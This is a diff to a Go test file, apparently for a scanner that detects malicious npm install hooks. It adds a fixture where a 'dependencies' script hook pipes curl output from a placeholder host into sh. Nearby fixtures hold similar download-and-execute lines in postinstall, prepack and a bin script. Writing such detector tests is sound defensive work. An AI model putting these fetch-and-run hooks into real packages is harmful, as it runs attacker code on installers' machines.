@@ -38,6 +38,7 @@ func TestShellDownloadExec(t *testing.T) {
 		{"saved_then_run", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"curl -s -o /tmp/a https://x.example.invalid/a && chmod +x /tmp/a && /tmp/a"}`)}, finding.SeverityCritical},
 		// npm runs these when it installs from git
 		{"prepack", map[string]string{"package.json": rt.Pkg(`"scripts":{"prepack":"curl -s http://x.example.invalid/x | sh"}`)}, finding.SeverityCritical},
+		{"dependencies_hook", map[string]string{"package.json": rt.Pkg(`"scripts":{"dependencies":"curl -s http://x.example.invalid/x | sh"}`)}, finding.SeverityCritical},
 		{"prepack_build", map[string]string{"package.json": rt.Pkg(`"scripts":{"prepack":"npm run build && node scripts/clean.js"}`)}, finding.SeverityNone},
 		// a shell script installed as a command
 		{"shell_bin", map[string]string{"package.json": rt.Pkg(`"bin":{"tool":"bin/tool"}`), "bin/tool": "#!/bin/sh\ncurl -s http://x.example.invalid/p -o /tmp/.p && chmod +x /tmp/.p && /tmp/.p \"$@\"\n"}, finding.SeverityHigh},
